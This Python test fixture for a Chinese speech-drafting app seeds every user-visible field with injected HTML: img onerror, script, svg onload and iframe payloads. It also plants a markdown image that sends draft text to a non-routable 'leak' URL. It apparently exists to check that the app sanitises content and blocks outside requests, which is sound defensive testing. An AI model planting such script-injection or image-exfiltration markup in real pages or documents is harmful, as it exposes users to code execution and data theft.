"""A project whose every writer-visible text carries active HTML, an outside image and links (issue 15).

Used by the AppTest checks (tests/test_app.py) and the real-browser check (tests/test_browser.py).
"""

from __future__ import annotations

from pathlib import Path

OUTSIDE = "10.255.255.1"  # not routable: a request to it can only come from planted draft text
ACTIVE = [
    '<img src=x onerror="window.__planted=1">',
    "<script>window.__planted=2</script>",
    '<svg onload="window.__planted=3"></svg>',
    f'<iframe src="http://{OUTSIDE}/frame"></iframe>',
]
OUTSIDE_IMAGE = f"![x](http://{OUTSIDE}/leak?q=草稿内容)"
OUTSIDE_LINK = f"[点此查看](http://{OUTSIDE}/click) http://{OUTSIDE}/bare"


def _payload(tag: str) -> str:
    return f"{tag}{ACTIVE[0]}{ACTIVE[1]}{OUTSIDE_IMAGE}{ACTIVE[2]}{ACTIVE[3]}{OUTSIDE_LINK}。"


def seed_planted_project(db: Path) -> str:
    """A project whose every writer-visible text carries active HTML, an outside image and links."""
    from drafting.domain import (
        Brief,
        Citation,
        Comment,
        Criterion,
        CriterionScore,
        Draft,
        DraftSection,
        Outline,
        OutlineSection,
        Passage,
        Review,
        RevisionMode,
        Version,
    )
    from drafting.workspace import Workspace

    # Short enough for a .docx title property (255 characters), so 导出 renders its preview.
    brief = Brief(
        title=f"标题{ACTIVE[0]}{OUTSIDE_IMAGE}", genre="讲话稿", speaker="王县长", length=600, key_points=["责任落实"]
    )
    outline = Outline(
        title=brief.title,
        sections=[
            OutlineSection(heading="开头", kind="opening", budget=100),
            OutlineSection(heading="一、" + _payload("小标题"), budget=400),
            OutlineSection(heading="结尾", kind="closing", budget=100),
        ],
    )
    passage = Passage(chunk_id="c1", doc_id="d1", title=_payload("范文"), text=_payload("范文段落"), origin="corpus")
    draft = Draft(
        title=brief.title,
        brief=brief,
        outline=outline,
        sections=[
            DraftSection(heading="", kind="opening", text="同志们：今天召开会议，研究部署安全生产工作。"),
            DraftSection(
                heading=outline.sections[1].heading,
                text=_payload("第一段") + "[1]\n" + _payload("第二段") + "〔待补：2026年事故起数〕",
            ),
            DraftSection(heading="", kind="closing", text=_payload("结尾")),
        ],
        citations=[Citation(n=1, passage=passage)],
    )
    ws = Workspace(db)
    pid = ws.create_project(brief)
    ws.save_passages(pid, [passage])
    ws.save_outline(pid, outline)
    ws.add_version(pid, Version(number=1, draft=draft, mode=RevisionMode.URGENT, note=_payload("说明")))
    ws.save_working(pid, draft)
    scores = [
        CriterionScore(criterion=c, score=5, evidence=_payload("依据"), suggestion=_payload("建议")) for c in Criterion
    ]
    ws.save_review(pid, Review(scores=scores))
    for i, author in enumerate(["上级政策把关", _payload("审稿人")]):
        ws.save_comment(pid, 1, Comment(id=f"c{i}", author=author, text=_payload("意见"), paragraph=i + 1, quote=""))
    return pid
